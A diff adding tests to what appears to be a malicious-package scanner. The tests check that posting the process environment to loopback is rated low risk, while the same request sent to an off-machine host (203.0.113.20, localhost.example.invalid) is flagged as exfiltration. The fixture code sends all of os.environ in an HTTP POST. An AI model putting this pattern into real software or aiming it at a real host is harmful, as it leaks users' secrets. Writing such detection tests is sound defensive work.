@@ -532,3 +532,51 @@ def test_a_download_loaded_a_few_lines_later_in_a_function_stays_a_chain(tmp_pat
     ).encode()
     res = _wheel(tmp_path, {"gizmo/__init__.py": code})
     assert "chain.download_execute" in _ids(res)
+
+
+# ------------------------------------------- collected data sent to this machine's loopback
+
+LOCAL_PROXY = b"""import json
+import os
+import urllib.request
+
+PORT = int(os.environ.get("GIZMO_PORT", "8787"))
+
+
+def push_runtime_env(port=PORT):
+    payload = {k: v for k, v in os.environ.items() if k.startswith(("GIZMO_", "HTTP"))}
+    request = urllib.request.Request(
+        f"http://127.0.0.1:{port}/admin/runtime-env",
+        data=json.dumps(dict(os.environ)).encode("utf-8"),
+        method="POST",
+    )
+    with urllib.request.urlopen(request, timeout=2) as response:
+        return response.status
+"""
+
+
+def test_the_environment_handed_to_the_packages_own_proxy_on_loopback_is_no_exfiltration(
+    tmp_path,
+):
+    """A CLI wrapper starts its own proxy and, when the user runs it, hands the proxy the
+    environment over ``http://127.0.0.1:{port}``: nothing leaves the machine."""
+    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/wrap.py": LOCAL_PROXY})
+    local = [h for h in res.findings if h.rule == "py.net_send_local"]
+    assert local and all(h.severity == "low" for h in local)  # shown like any request
+    assert "chain.exfiltration" not in _ids(res)
+    assert res.risk.level not in HIGH
+
+
+def test_the_same_environment_posted_to_a_public_host_stays_an_exfiltration(tmp_path):
+    """The twin: the same request to a host off the machine (a documentation address)."""
+    code = LOCAL_PROXY.replace(b"http://127.0.0.1:{port}", b"http://203.0.113.20:{port}")
+    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/wrap.py": code})
+    assert "chain.exfiltration" in _ids(res)
+    assert res.risk.level in HIGH
+
+
+def test_a_loopback_lookalike_host_stays_an_exfiltration(tmp_path):
+    """The twin: a host that only starts like localhost (``localhost.example.invalid``)."""
+    code = LOCAL_PROXY.replace(b"http://127.0.0.1:{port}", b"https://localhost.example.invalid")
+    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/wrap.py": code})
+    assert res.risk.level in HIGH
